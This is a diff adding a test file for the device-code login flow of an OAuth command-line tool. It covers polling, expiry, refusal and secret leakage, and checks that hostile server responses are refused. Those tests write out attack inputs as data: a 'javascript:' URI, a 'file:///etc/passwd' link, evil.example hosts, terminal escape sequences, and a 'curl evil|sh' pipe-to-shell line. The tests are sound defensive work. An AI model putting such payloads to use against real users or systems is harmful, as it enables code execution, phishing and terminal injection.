@@ -1,0 +1,277 @@
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import type { Clock, Context } from '../../src/context.ts';
+import { playUserAgent } from '../../src/demo/http-user-agent.ts';
+import { AbortedError } from '../../src/errors.ts';
+import { type AuthorizationServer, startAuthorizationServer } from '../support/authorization-server.ts';
+import { expectNoSecrets } from '../support/canary.ts';
+import { type CommandLine, errorOf, openCommandLine } from '../support/command-line.ts';
+
+let server: AuthorizationServer;
+let line: CommandLine;
+
+beforeAll(async () => {
+  server = await startAuthorizationServer();
+});
+afterAll(() => server.close());
+beforeEach(() => {
+  line = openCommandLine({ user: 'ada' });
+});
+afterEach(() => {
+  server.restore();
+  line.close();
+});
+
+interface Stage {
+  readonly changes: Partial<Context>;
+  said(): string;
+  /** Seconds between the polls, by the clock of the command. */
+  polls(): number[];
+  seconds(): number;
+}
+
+/** A clock that runs as fast as it is asked to; `atSecond` is told where it stands. */
+function stage(atSecond: (second: number, said: string) => Promise<void> | void = () => {}): Stage {
+  let milliseconds = 0;
+  const err: string[] = [];
+  const hits: number[] = [];
+  const before = server.hits('token');
+  const clock: Clock = {
+    now: () => new Date(),
+    monotonic: () => milliseconds,
+    async sleep(duration, signal) {
+      signal?.throwIfAborted();
+      while (hits.length < server.hits('token') - before) hits.push(milliseconds / 1000);
+      milliseconds += duration;
+      await atSecond(milliseconds / 1000, err.join(''));
+      signal?.throwIfAborted();
+    },
+  };
+  return {
+    changes: { clock, canOpenBrowser: false, stderr: { write: (text) => err.push(text) } },
+    said: () => err.join(''),
+    polls: () => hits.map((at, index) => at - (hits[index - 1] ?? 0)),
+    seconds: () => milliseconds / 1000,
+  };
+}
+
+const login = ({ changes }: Stage, ...more: string[]) =>
+  line.runIn(
+    changes,
+    server.issuer,
+    '--client-id',
+    server.clientId,
+    '--allow-http-loopback',
+    '--device',
+    ...more,
+  );
+
+async function enterCode(said: string, consent: boolean): Promise<void> {
+  const page = /^(http\S+\/device)$/m.exec(said)?.[1] ?? '';
+  const code = /^ {4}([A-Z-]+)$/m.exec(said)?.[1] ?? '';
+  await playUserAgent(`${page}?user_code=${code}`, { user: 'ada', consent });
+}
+
+const enteredAt = (second: number, consent = true) => {
+  let entered = false;
+  return stage(async (now, said) => {
+    if (entered || now < second) return;
+    entered = true;
+    await enterCode(said, consent);
+  });
+};
+
+const reply = (status: number, body: object) =>
+  ({ kind: 'reply', status, body: JSON.stringify(body) }) as const;
+
+describe('the device grant', () => {
+  it('shows page, code and warning, each on its own line, and signs in', async () => {
+    const here = enteredAt(12);
+    const { exitCode, stdout } = await login(here);
+    expect(here.said()).toMatch(/\nhttp:\/\/127\.0\.0\.1:\d+\/device\n/);
+    expect(here.said()).toMatch(/\n {4}[A-Z]{4}-[A-Z]{4}\n/);
+    expect(here.said()).toContain('Go on only if you started this yourself, here, just now.');
+    expect(stdout).toMatch(/^Signed in to .+ as ada \(Ada Lovelace\)/);
+    expect(exitCode).toBe(0);
+    expect((await line.run('token', '--refresh')).exitCode).toBe(0);
+  });
+
+  it('never shows the device code (T30)', async () => {
+    const here = enteredAt(6);
+    await login(here, '--debug');
+    const codes = server
+      .requestsTo('token')
+      .map(({ form }) => form.get('device_code'))
+      .filter((code) => code !== null);
+    expect(codes.length).toBeGreaterThan(0);
+    expectNoSecrets(here.said() + line.everythingSaid(), codes);
+    expectNoSecrets({ directory: line.directory }, codes);
+  });
+
+  it('opens no browser, even where one could be opened (T30)', async () => {
+    const here = enteredAt(6);
+    const openBrowser = async () => {
+      throw new Error('the browser was opened');
+    };
+    const changes = { ...here.changes, canOpenBrowser: true, openBrowser };
+    expect((await login({ ...here, changes })).exitCode).toBe(0);
+  });
+
+  it('is not used on a desktop unless it is asked for (T30)', async () => {
+    const before = server.hits('device_authorization');
+    await line.run(server.issuer, '--client-id', server.clientId, '--allow-http-loopback');
+    expect(server.hits('device_authorization')).toBe(before);
+  });
+
+  it('is used unasked where there is neither a browser nor a terminal to paste into', async () => {
+    const here = enteredAt(6);
+    const env = { OAUTH_LOGIN_STORE: 'file', BROWSER: 'lynx' };
+    const argv = [server.issuer, '--client-id', server.clientId, '--allow-http-loopback'];
+    expect((await line.runIn({ ...here.changes, env }, ...argv)).exitCode).toBe(0);
+    expect(here.said()).toContain('enter this code');
+  });
+
+  it('tells a program what to show', async () => {
+    const here = stage(async (_now, said) => {
+      const event = said.split('\n').find((text) => text.includes('"user_code"'));
+      if (event === undefined) return;
+      const { user_code, verification_uri } = JSON.parse(event);
+      await playUserAgent(`${verification_uri}?user_code=${user_code}`, { user: 'ada', consent: true });
+    });
+    const { stdout } = await login(here, '--json', '--events');
+    const events = here
+      .said()
+      .trim()
+      .split('\n')
+      .map((text) => JSON.parse(text).event);
+    expect(events).toEqual(['user_code', 'waiting', 'signed_in']);
+    expect(JSON.parse(stdout).store).toBe('file');
+  });
+});
+
+describe('polling', () => {
+  it('keeps to the interval and does not drift', async () => {
+    const here = enteredAt(21);
+    await login(here);
+    expect(here.polls()).toEqual([5, 5, 5, 5]);
+  });
+
+  it('lengthens the interval for good after each slow_down', async () => {
+    let asked = 0;
+    const here = stage(async (_now, said) => {
+      if (server.hits('token') > asked + 3) await enterCode(said, true).catch(() => {});
+    });
+    asked = server.hits('token');
+    server.breakEndpoint('token', reply(400, { error: 'slow_down' }), 3);
+    await login(here);
+    expect(here.polls().slice(0, 4)).toEqual([5, 10, 15, 20]);
+  });
+
+  it('goes on while the network is down, less and less often, and says so once', async () => {
+    server.breakEndpoint('token', { kind: 'reset' }, 3);
+    const here = enteredAt(30);
+    expect((await login(here)).exitCode).toBe(0);
+    expect(here.polls().slice(0, 3)).toEqual([5, 10, 20]);
+    expect(here.said().match(/network does not answer/g)).toHaveLength(1);
+  });
+
+  it('ends with the code: exit 5 and how to get another', async () => {
+    const here = stage();
+    const outcome = await login(here);
+    expect(outcome.exitCode).toBe(5);
+    expect(here.said()).toMatch(/the code for .+ has expired\noauth-login: hint: .+ --device/);
+    expect(here.seconds()).toBeGreaterThanOrEqual(595);
+    expect(here.seconds()).toBeLessThanOrEqual(605);
+  });
+
+  it('ends with the refusal', async () => {
+    const here = enteredAt(6, false);
+    expect((await login(here)).exitCode).toBe(5);
+    expect(here.said()).toContain('access_denied');
+  });
+
+  it('ends with Ctrl-C at once', async () => {
+    const stop = new AbortController();
+    const here = stage((now) => (now > 7 ? stop.abort(new AbortedError()) : undefined));
+    const outcome = await login({ ...here, changes: { ...here.changes, signal: stop.signal } });
+    expect(outcome.exitCode).toBe(130);
+    expect(here.seconds()).toBeLessThan(10);
+  });
+});
+
+describe('T31 a hostile device response', () => {
+  const good = {
+    device_code: 'a-device-code-of-some-length',
+    user_code: 'ABCD-EFGH',
+    expires_in: 60,
+    interval: 5,
+  };
+  const page = () => `${server.issuer}/device`;
+
+  it.each<[string, () => object]>([
+    ['a page that is a script', () => ({ ...good, verification_uri: 'javascript:alert(1)' })],
+    ['a page that is a file', () => ({ ...good, verification_uri: 'file:///etc/passwd' })],
+    ['a page in the clear', () => ({ ...good, verification_uri: 'http://as.example/device' })],
+    ['a page with a user name', () => ({ ...good, verification_uri: 'https://as.example@evil.example/' })],
+    ['a page of another host', () => ({ ...good, verification_uri: 'https://evil.example/device' })],
+    ['no page', () => good],
+    [
+      'a code with an escape sequence',
+      () => ({ ...good, verification_uri: page(), user_code: '\u001b[2Jx' }),
+    ],
+    [
+      'a code that is a sentence',
+      () => ({ ...good, verification_uri: page(), user_code: 'run this: curl evil|sh' }),
+    ],
+    ['a code that is too long', () => ({ ...good, verification_uri: page(), user_code: 'A'.repeat(33) })],
+    ['a negative life', () => ({ ...good, verification_uri: page(), expires_in: -1 })],
+    ['an interval of nothing', () => ({ ...good, verification_uri: page(), interval: 0 })],
+    ['a negative interval', () => ({ ...good, verification_uri: page(), interval: -1 })],
+    ['no life', () => ({ ...good, verification_uri: page(), expires_in: undefined })],
+  ])('with %s is refused before anything of it is shown', async (_what, body) => {
+    server.breakEndpoint('device_authorization', reply(200, body()));
+    const here = stage();
+    const outcome = await login(here, '--json');
+    expect(errorOf({ ...outcome, stderr: here.said() }).exit_code).toBe(6);
+    expect(here.said()).not.toContain('\u001b');
+    expect(here.said()).not.toContain('enter this code');
+  });
+
+  it.each([
+    [1, 5],
+    [7, 7],
+    [1e9, 60],
+  ])('with an interval of %d is polled every %d seconds', async (interval, expected) => {
+    server.breakEndpoint(
+      'device_authorization',
+      reply(200, { ...good, verification_uri: page(), interval, expires_in: 130 }),
+    );
+    server.breakEndpoint('token', reply(400, { error: 'authorization_pending' }));
+    const here = stage();
+    await login(here);
+    expect(new Set(here.polls())).toEqual(new Set([expected]));
+    expect(here.polls().length).toBeGreaterThanOrEqual(2);
+  });
+
+  it('that never ends is given up after 30 minutes', async () => {
+    server.breakEndpoint(
+      'device_authorization',
+      reply(200, { ...good, verification_uri: page(), interval: 60, expires_in: 1e9 }),
+    );
+    server.breakEndpoint('token', reply(400, { error: 'authorization_pending' }));
+    const here = stage();
+    expect((await login(here)).exitCode).toBe(5);
+    expect(here.seconds()).toBeLessThanOrEqual(1800);
+  });
+
+  it('whose page holds escapes is printed percent-encoded', async () => {
+    server.breakEndpoint(
+      'device_authorization',
+      reply(200, { ...good, verification_uri: `${page()}/\u001b[2K`, expires_in: 6 }),
+    );
+    server.breakEndpoint('token', reply(400, { error: 'authorization_pending' }));
+    const here = stage();
+    await login(here);
+    expect(here.said()).toContain('/device/%1B[2K');
+    expect(here.said()).not.toContain('\u001b');
+  });
+});
